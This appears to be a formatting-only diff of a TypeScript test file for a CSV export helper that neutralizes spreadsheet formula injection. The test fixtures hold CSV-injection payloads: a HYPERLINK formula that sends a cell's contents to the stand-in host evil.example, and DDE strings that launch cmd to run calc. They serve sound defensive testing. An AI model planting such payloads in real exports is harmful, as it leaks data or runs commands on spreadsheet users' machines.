@@ -9,7 +9,14 @@ import { voucherCodesCsv } from "../../src/resources/voucherBatches";
 // through it, and a cell a spreadsheet would run as a formula is neutralized as OWASP recommends.
 
 /** A subscriber's ticket subject that, live, sends the agent's sheet to the attacker; and the other starts. */
-const PLANTED = ['=HYPERLINK("https://evil.example/?"&A1,"Click for details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const PLANTED = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
 
 describe("csvCell", () => {
   it.each(PLANTED)("neutralizes %j: a leading single quote, the cell quoted, its quotes doubled", (planted) => {
@@ -40,9 +47,17 @@ describe("csvCell", () => {
 
 describe("toCsv and recordsToCsv", () => {
   it("write RFC 4180 rows ending in CRLF that the parser reads back, formulas neutralized", () => {
-    const text = toCsv([["subject", "amount"], [PLANTED[0], 1500]]);
-    expect(text).toBe(`"subject","amount"\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")",1500\r\n`);
-    expect(parseCsv(text)).toEqual([["subject", "amount"], [`'${PLANTED[0]}`, "1500"]]);
+    const text = toCsv([
+      ["subject", "amount"],
+      [PLANTED[0], 1500],
+    ]);
+    expect(text).toBe(
+      `"subject","amount"\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")",1500\r\n`,
+    );
+    expect(parseCsv(text)).toEqual([
+      ["subject", "amount"],
+      [`'${PLANTED[0]}`, "1500"],
+    ]);
   });
 
   it("put every key any record has under one header, in order of appearance", () => {
@@ -53,7 +68,12 @@ describe("toCsv and recordsToCsv", () => {
 
 describe("the exports write through it", () => {
   it("a voucher batch's codes (the portal's download and the server's text/csv)", () => {
-    expect(voucherCodesCsv({ value: { amount: 1000, currency: "USD" }, expiresOn: "2030-01-31" }, ["7K3M-Q9XW-P2RT", "-1+1"])).toBe(
+    expect(
+      voucherCodesCsv({ value: { amount: 1000, currency: "USD" }, expiresOn: "2030-01-31" }, [
+        "7K3M-Q9XW-P2RT",
+        "-1+1",
+      ]),
+    ).toBe(
       '"code","value_minor","currency","valid_through"\r\n"7K3M-Q9XW-P2RT",1000,"USD","2030-01-31"\r\n"\'-1+1",1000,"USD","2030-01-31"\r\n',
     );
   });
